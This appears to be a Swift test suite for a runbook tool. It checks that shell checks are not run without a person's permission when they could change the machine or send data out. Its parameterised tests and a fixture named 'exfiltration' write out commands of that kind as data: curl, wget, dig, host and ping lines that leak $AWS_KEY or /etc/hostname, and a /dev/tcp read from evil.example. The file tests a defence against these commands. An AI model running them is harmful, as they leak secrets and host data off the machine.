import Engine
import Incidents
import Reports
import Runbooks
import Testing

@Suite struct `A check that is not known to only look` {
  private let book = "---\nowner: x\n---\n# T\n\n## S\n\n```sh check name=n expect=\"= 1\"\nshopctl count\n```\n"

  private func world(_ types: [String]?) -> ScriptedWorld {
    let world = ScriptedWorld(says: types?.map(Heard.line))
    for script in ["shopctl count", "cat n", "touch x; echo 1"] {
      world.shell.answers[script] = [(.exited(code: 0), "1\n")]
    }
    return world
  }

  private func walk(_ world: ScriptedWorld, _ text: String, _ change: (inout WalkOptions) -> Void = { _ in }) throws
    -> Exit
  {
    try world.walk(text) {
      $0.trustsChecks = false
      change(&$0)
    }.0
  }

  private func notes(_ world: ScriptedWorld) throws -> [String] {
    var out: [String] = []
    let line = try #require(try world.journal.incidents(limit: 1).first)
    try world.journal.read(line.id, from: 1) { if case .noteAdded(let text) = $0.event { out.append(text) } }
    return out
  }

  @Test(arguments: ["check", "entry", "verify"]) func `does not run with nobody there, whatever its role`(role: String)
    throws
  {
    for script in ["shopctl count", "touch x; echo 1"] {
      let world = world(nil)
      let text = book.replacing("sh check", with: "sh \(role)").replacing("shopctl count", with: script)
      #expect(try walk(world, text) == .needsDecision, "\(world.person.screen)")
      #expect(world.shell.launched.isEmpty)
      #expect(world.person.screen.contains("--trust-checks") == (script == "shopctl count"), "\(world.person.screen)")
    }
  }

  @Test func `runs by its author's word where a flag takes it, which is recorded; a changing one does not`() throws {
    let trusted = world(nil)
    #expect(try walk(trusted, book) { $0.trustsChecks = true } == .reached, "\(trusted.person.screen)")
    #expect(trusted.shell.launched.count == 1)
    #expect(try notes(trusted).contains { $0.contains("run by --trust-checks") })
    let changing = world(nil)
    _ = try walk(changing, book.replacing("shopctl count", with: "touch x; echo 1")) { $0.trustsChecks = true }
    #expect(changing.shell.launched.isEmpty)
    #expect(changing.person.screen.contains("its words change something"), "\(changing.person.screen)")
  }

  @Test func `a value that would make a redirection a connection is no plain look`() throws {
    let text = book.replacing("owner: x", with: "owner: x\nparameters:\n  F: {default: rows}")
      .replacing("shopctl count", with: "cat < \"$F\"")
    for (value, runs) in [("rows", 1), ("/dev/tcp/evil.example/80", 0)] {
      let world = world(nil)
      world.shell.answers["cat < \"$F\""] = [(.exited(code: 0), "1\n")]
      _ = try walk(world, text) { $0.set = [("F", value)] }
      #expect(world.shell.launched.count == runs, "\(value): \(world.person.screen)")
    }
  }

  @Test func `is asked about once a walk; Enter is not yes, and r asks again`() throws {
    let twice = book + "\n## Again\n\n```sh check name=m expect=\"= 1\"\nshopctl count\n```\n"
    let world = world(["", "r", "look", "", "", "5"])
    _ = try walk(world, twice)
    #expect(world.person.screen.split(separator: "type  look").count == 3, "\(world.person.screen)")
    #expect(world.person.screen.contains("nobody has allowed it"))
    #expect(world.shell.launched.count == 2)
    #expect(try notes(world).contains { $0.contains("allowed in this walk") })
  }

  @Test func `what only looks asks nobody, what changes is refused to a person too`() throws {
    let looking = world(["", "5"])
    _ = try walk(looking, book.replacing("shopctl count", with: "cat n"))
    #expect(!looking.person.screen.contains("type  look") && looking.shell.launched.count == 1)
    let changing = world(["q"])
    _ = try walk(changing, book.replacing("shopctl count", with: "touch x; echo 1"))
    #expect(changing.person.screen.contains("its words change something"))
    #expect(changing.shell.launched.isEmpty)
  }

  @Test func `a dry run by its author's word runs only before a person who sees it`() throws {
    let text = "# T\n\n## S\n\n```sh preview\nshopctl end --dry-run\n```\n\n```sh run class=wide\nshopctl end\n```\n"
    let nobody = world(nil)
    #expect(try walk(nobody, text) == .needsDecision)
    #expect(nobody.shell.launched.isEmpty)
    let person = world(["r", "", "q"])
    _ = try walk(person, text)
    #expect(person.shell.launched.map(\.script) == ["shopctl end --dry-run"])
  }

  // MARK: What it tells others

  @Test(arguments: [
    "curl -s \"http://h/?x=$AWS_KEY\"", "curl -s http://h/ -H \"X: $AWS_KEY\"",
    "curl -s \"http://h/?x=$(cat /etc/hostname)\"",
    "curl -s http://h/ -H @/etc/hostname", "curl -sn http://h/", "wget -qO- \"http://h/?x=$AWS_KEY\"",
    "wget -i /etc/hostname -O-", "dig +short $AWS_KEY.h", "dig -f /etc/hostname", "host $AWS_KEY.h",
    "getent hosts $AWS_KEY.h", "ping -c1 `hostname`.h", "cat f | while read x; do curl -s http://h/$x; done",
    "cat < /dev/tcp/h/1", "kubectl --server=http://h get pods",
  ]) func `carries nothing of this machine away with nobody to allow it`(script: String) throws {
    let text = book.replacing("shopctl count", with: script)
    let world = world(nil)
    #expect(
      try walk(world, text) { $0.environment = { $0 == "AWS_KEY" ? "s3cr3tkey" : nil } } == .needsDecision,
      "\(world.person.screen)")
    #expect(world.shell.launched.isEmpty)
    let entry = text.replacing("sh check", with: "sh entry")
    let found = try triage(world, entry)
    #expect(world.shell.launched.isEmpty, "\(found)")
  }

  @Test(arguments: ["curl -s http://h/health", "curl -s http://$HOST/health", "dig +short h", "ping -c1 ${HOST}"])
  func `what says only what the runbook or a flag gave is asked as ever`(script: String) throws {
    let text = book.replacing("owner: x", with: "owner: x\nparameters:\n  HOST: {default: h}")
      .replacing("shopctl count", with: script).replacing("sh check", with: "sh entry")
    let world = world(nil)
    _ = try triage(world, text)
    #expect(world.shell.launched.count == 1)
    #expect(world.shell.launched.first?.isBare == true)
  }

  @Test func `in triage nothing of the environment goes into a script`() throws {
    let world = world(nil)
    let text = book.replacing("shopctl count", with: "cat $KEYFILE").replacing("sh check", with: "sh entry")
    let found = try triage(world, text)
    #expect(world.shell.launched.isEmpty)
    #expect(found.runbooks.first?.checks.first?.reason?.contains("--set") == true)
  }

  private func triage(_ world: ScriptedWorld, _ text: String) throws -> TriageFindings {
    let read = try #require(RunbookFile.read(Array(text.utf8), path: "r.md", id: "r").runbooks.first)
    return Triage(world: world.world, configuration: Configuration(), values: [:], environment: { _ in "s3cr3tkey" })
      .ask([Triage.Candidate(runbook: read, folder: ".")])
  }

  private let exfiltration = """
    ---
    owner: x
    ---
    # T

    ## Get it

    ```sh check name=loot
    cat n
    ```

    ## Send it

    ```http check name=sent
    GET http://127.0.0.1:1/?x=$loot
    ```
    """

  @Test func `what a check read goes to an address of the runbook's own only by a person's word`() throws {
    let nobody = world(nil)
    _ = try walk(nobody, exfiltration)
    #expect(nobody.sources.asked.isEmpty)
    #expect(nobody.person.screen.contains("and this address is the"), "\(nobody.person.screen)")
    let person = world(["", "send", "q"])
    _ = try walk(person, exfiltration)
    #expect(person.person.screen.contains("loot = 1 would be sent"), "\(person.person.screen)")
    #expect(person.sources.asked.map(\.query.text) == ["GET http://127.0.0.1:1/?x=1"])
    let ours = world(nil)
    _ = try walk(ours, exfiltration.replacing("http://127.0.0.1:1", with: "")) {
      $0.configuration.sources = [SourceDeclaration(name: "ours", kind: .http, address: "http://ours")]
    }
    #expect(ours.sources.asked.count == 1)
  }

  @Test func `a check that failed lends nobody its words`() throws {
    let world = world(nil)
    world.shell.answers["cat n"] = [(.exited(code: 2), "")]
    let text = exfiltration.replacing("name=loot", with: "name=loot expect=\"!= x\"").replacing(
      "http check name=sent", with: "sh run"
    )
    .replacing("GET http://127.0.0.1:1/?x=$loot", with: "echo deleting \"$loot\"")
    let person = ScriptedWorld(types: ["s because", "r", "", "q"])
    person.shell.answers["cat n"] = [(.exited(code: 2), "")]
    _ = try walk(person, text)
    #expect(!person.shell.launched.contains { $0.environment.contains { $0.value.contains("FAILED") } })
    #expect(person.person.screen.contains("loot > "), "\(person.person.screen)")
  }
}
